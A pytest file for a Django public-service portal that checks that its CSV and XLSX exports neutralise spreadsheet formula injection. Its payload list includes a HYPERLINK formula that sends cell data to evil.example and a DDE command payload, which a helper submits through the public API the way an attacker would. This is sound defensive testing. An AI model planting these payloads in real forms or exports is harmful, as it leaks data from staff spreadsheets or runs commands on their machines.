"""Formula injection: text a citizen or an editor typed opens as text in every spreadsheet the
admin exports (the staff registers, the notices, visitors and feedback listings), never as a
live formula; numbers stay numbers."""

import csv
import io
import json

import pytest
from django.core.cache import cache
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from eservice.domain import reports
from eservice.models import Application
from tests.conftest import build_bilingual_site
from tests.eservice.conftest import build_centre, in_english
from tests.eservice.factories import FeedbackFactory, OfficerFactory, VisitorFactory
from tests.factories import NoticeFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
# Each way a spreadsheet program starts reading a formula.
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def centre(db):
    return build_centre(build_bilingual_site())


@pytest.fixture
def officer_client(client):
    client.force_login(in_english(OfficerFactory()))
    return client


@pytest.fixture
def admin_client(client, django_user_model):
    client.force_login(in_english(django_user_model.objects.create_superuser("chief", "chief@example.com", "pw")))
    return client


def apply_through_the_api(client, applicant_name: str) -> Application:
    """What an anonymous attacker does: apply on the portal channel with a formula for a name."""
    cache.clear()
    data = {
        "service": "ngo-report",
        "applicant_name": applicant_name,
        "guardian_name": "করিম উদ্দিন",
        "mobile": "01712345678",
        "nid": "1234567890",
        "address": "পায়রাবন্দ, মিঠাপুকুর",
    }
    response = client.post("/api/v3/applications/", json.dumps(data), content_type="application/json")
    assert response.status_code == 201, response.content
    return Application.objects.get(tracking_number=response.json()["tracking_number"])


def day_of(application: Application) -> str:
    return timezone.localtime(application.received_at).date().isoformat()


def body(response) -> bytes:
    """The file, whether the view sent it whole (the registers) or streamed it (Wagtail's listings)."""
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


def xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(body(response))).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_text_in_xlsx(response, payload: str) -> None:
    cells = [cell for cell in xlsx_cells(response) if isinstance(cell.value, str) and payload in cell.value]
    assert cells, f"{payload!r} is missing from the workbook"
    for cell in cells:
        assert cell.data_type == "s", f"{cell.coordinate} is a {cell.data_type!r} cell: {cell.value!r}"


def assert_neutralised_in_csv(response, *payloads: str) -> None:
    values = [value for row in csv_rows(response) for value in row]
    for payload in payloads:
        assert payload not in values, f"{payload!r} is a raw CSV cell a spreadsheet would evaluate"
        assert "'" + payload in values


def test_daily_register_csv_writes_the_hyperlink_name_as_text(client, centre, officer_client):
    application = apply_through_the_api(client, HYPERLINK)
    response = officer_client.get(reverse("eservice_reports:register"), {"day": day_of(application), "format": "csv"})
    assert response.status_code == 200
    assert_neutralised_in_csv(response, HYPERLINK)


def test_daily_register_xlsx_writes_the_hyperlink_name_as_a_string_cell(client, centre, officer_client):
    application = apply_through_the_api(client, HYPERLINK)
    response = officer_client.get(reverse("eservice_reports:register"), {"day": day_of(application), "format": "xlsx"})
    assert response.status_code == 200
    assert_text_in_xlsx(response, HYPERLINK)
    # The register's real numbers are still numbers.
    first_row = next(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2, values_only=True))
    assert first_row[0] == 1


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralised_in_both_formats(payload):
    headers = ["Name", "Number"]
    rows = [[payload, -5], ["plain", -2.5]]
    written = list(csv.reader(io.StringIO(reports.to_csv(headers, rows).decode("utf-8-sig"))))
    assert written[1][0] == "'" + payload
    # Real numbers, negative ones too, stay numbers: no apostrophe in front.
    assert written[1][1] == "-5" and written[2][1] == "-2.5"
    sheet = load_workbook(io.BytesIO(reports.to_xlsx([("Sheet", headers, rows)]))).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.strip() == payload.strip()
    assert sheet["B2"].data_type == "n" and sheet["B2"].value == -5
    assert sheet["B3"].data_type == "n" and sheet["B3"].value == -2.5


def test_notice_listing_export_writes_a_formula_title_as_text(admin_client, bilingual_site):
    NoticeFactory(title=HYPERLINK)
    url = reverse("wagtailsnippets_notices_notice:list")
    as_csv = admin_client.get(url, {"export": "csv"})
    assert as_csv.status_code == 200
    assert_neutralised_in_csv(as_csv, HYPERLINK)
    as_xlsx = admin_client.get(url, {"export": "xlsx"})
    assert_text_in_xlsx(as_xlsx, HYPERLINK)


def test_feedback_and_visitor_exports_write_citizens_text_as_text(admin_client, centre):
    FeedbackFactory(message=HYPERLINK, name="@SUM(1,2)")
    VisitorFactory(name="+1+cmd|' /C calc'!A0", purpose=HYPERLINK)
    feedback = admin_client.get(reverse("eservice_feedback:index"), {"export": "csv"})
    assert feedback.status_code == 200
    assert_neutralised_in_csv(feedback, HYPERLINK, "@SUM(1,2)")
    visitors = admin_client.get(reverse("eservice_visitors:index"), {"export": "csv"})
    assert visitors.status_code == 200
    assert_neutralised_in_csv(visitors, HYPERLINK, "+1+cmd|' /C calc'!A0")
